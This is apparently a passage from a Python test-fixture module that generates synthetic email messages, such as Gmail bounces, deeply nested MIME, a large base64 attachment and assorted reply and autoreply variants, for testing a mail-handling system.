              " 550-5.1.1 double-checking the recipient's email address for typos or\n"
              " 550-5.1.1 unnecessary spaces. For more information, go to\n"
              " 550 5.1.1  https://support.google.com/mail/?p=NoSuchUser "
              "a640c23a62f3a-aa5b1f0c2d9si812345666b.12 - gsmtp")
    original = (f"Received: by 2002:a17:906:1b4f:b0:a9e:7c1d:2f10 with SMTP id "
                f"a640c23a62f3a-aa5b1f0c2d9mr1234567866b.5;\n"
                f"        {f.later('America/Los_Angeles', -2, 'google')}\n"
                f"From: {_address(f.to_name, f.to_addr)}\n"
                f"To: {_address(CONTACT_NAME if recipient == CONTACT else '', recipient)}\n"
                f"Subject: {_words(f.subject)}\n"
                f"Date: {f.later('Europe/Stockholm', -2, 'padded')}\n"
                f"Message-ID: {f.in_reply_to}\n"
                f"MIME-Version: 1.0\n"
                f"Content-Type: text/plain; charset=\"UTF-8\"\n\n" + _BODY_OF_ORIGINAL)
    return _fill("gmail_bounce", {
        "to_addr": f.to_addr, "date_header": f.date_header("America/Los_Angeles", "google"),
        "recipient": recipient, "references": _refs(f), "in_reply_to": f.in_reply_to,
        "message_id": f.message_id or (f"<{f.hexid(8)}.050a0220.{f.hexid(6, 8)}.0001.GMR@"
                                       f"mx.google.com>"),
        "boundary": f"000000000000{f.hexid(16, 16)}",
        "diagnostic": diagnostic, "diagnostic_folded": folded,
        "arrival_date": f.later("America/Los_Angeles", -2, "google"),
        "remote_mta": f"mx.{domain}", "recipient_domain": domain, "original": original})


def _deep_multipart(kind: str, f: _Fields) -> bytes:
    depth = f.given.get("depth", DEEP)
    inner = f"Content-Type: text/plain; charset=utf-8\n\n{f.body}\n"
    for level in range(depth, 0, -1):
        boundary = f"=_nest{level:05d}"
        inner = (f'Content-Type: multipart/mixed; boundary="{boundary}"\n\n--{boundary}\n{inner}'
                 f"\n--{boundary}--\n")
    head = _thunderbird(f).split("Content-Type:", 1)[0]  # the headers down to MIME-Version
    return _crlf(head + inner)


@functools.lru_cache(maxsize=1)
@functools.lru_cache(maxsize=2)
def _huge_attachment(size: int) -> bytes:
    # A fixed pattern, so the message is the same every time; base64 in 76-column CRLF lines
    # (made once a test process: several tests send one, and 70 MB take a second to encode).
    block = hashlib.sha256(b"cadence").digest() * 32
    data = (block * (size // len(block) + 1))[:size]
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def _huge(kind: str, f: _Fields) -> bytes:
    size = f.given.get("size", HUGE_SIZE)
    head = _thunderbird(f).split("Content-Type:", 1)[0]
    boundary = f"------------{f.hexid(24)}"
    text = (f'Content-Type: multipart/mixed; boundary="{boundary}"\n\n'
            f"This is a multi-part message in MIME format.\n--{boundary}\n"
            f"Content-Type: text/plain; charset=UTF-8; format=flowed\n"
            f"Content-Transfer-Encoding: 7bit\n\n{f.body}\n\n--{boundary}\n"
            f'Content-Type: application/pdf; name="offer-signed.pdf"\n'
            f'Content-Disposition: attachment; filename="offer-signed.pdf"\n'
            f"Content-Transfer-Encoding: base64\n\n")
    return b"".join((_crlf(head + text), _huge_attachment(size), _crlf(f"\n--{boundary}--\n")))


_BUILDERS = {
    "gmail_reply": _gmail_reply,
    "outlook_reply": _outlook_reply,
    "autoreply_exchange": _autoreply_exchange,
    "autoreply_x_autoreply": _simple("X-Autoreply: yes"),
    "autoreply_x_autorespond": _simple("X-Autorespond: Thank you for your message"),
    "autoreply_precedence": _simple("Precedence: auto_reply"),
    "auto_submitted_no": _simple("Auto-Submitted: no"),
    "postfix_bounce": _postfix_bounce,
    "gmail_bounce": _gmail_bounce,
    "delayed_dsn": _delayed_dsn,
    "junk_reply": _junk_reply,
    "stranger": _stranger,
    "russian_reply": _russian_reply,
    "ukrainian_reply": _ukrainian_reply,
    "swedish_reply": _swedish_reply,
    "idn_sender": _idn_sender,
    "idn_sender_utf8": _idn_sender_utf8,
    "sent_copy": _sent_copy,
    "header_injection": _header_injection,
    "hyperlink_subject": _hyperlink_subject,
    "broken_date": _broken_date,
    "no_message_id": _no_message_id,
    "deep_multipart": _deep_multipart,
    "huge": _huge,
}
assert set(_BUILDERS) == set(KINDS)
